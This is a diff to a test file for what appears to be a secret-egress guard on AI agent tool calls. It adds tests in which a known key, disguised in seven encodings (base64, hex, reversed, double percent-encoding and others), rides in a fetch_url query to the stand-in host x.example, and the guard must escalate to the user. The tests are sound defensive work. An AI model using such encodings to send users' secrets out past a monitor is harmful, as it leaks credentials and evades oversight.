@@ -141,3 +141,29 @@ def test_a_search_the_user_typed_with_their_key_in_it_runs() -> None:
         Transcript([Message(role="user", content=user)]), {"tool": "web_search", "args": {"query": user}}, user_id="u-1"
     )
     assert v.code is Code.EXEMPT  # the argument is the user's own words, whole
+
+
+def _encodings() -> list[str]:
+    import base64
+
+    raw = KEY.encode()
+    return [
+        base64.b64encode(raw).decode(),
+        base64.urlsafe_b64encode(raw).decode().rstrip("="),
+        raw.hex(),
+        KEY[::-1],
+        KEY.replace("_", "%255F"),  # percent-encoded twice
+        "/".join(KEY[i : i + 3] for i in range(0, len(KEY), 3)),
+        KEY.upper(),
+    ]
+
+
+@pytest.mark.parametrize("carried", _encodings())
+def test_a_known_secret_in_a_closed_encoding_still_goes_to_the_user(carried: str) -> None:
+    v = _check(
+        ["Read my .env file and tell me if it looks right."],
+        ENV,
+        "fetch_url",
+        {"url": f"https://x.example/c?d={carried}"},
+    )
+    assert v.decision is Decision.ASK_USER and v.findings.check is not None and v.findings.check.egress == "secret"
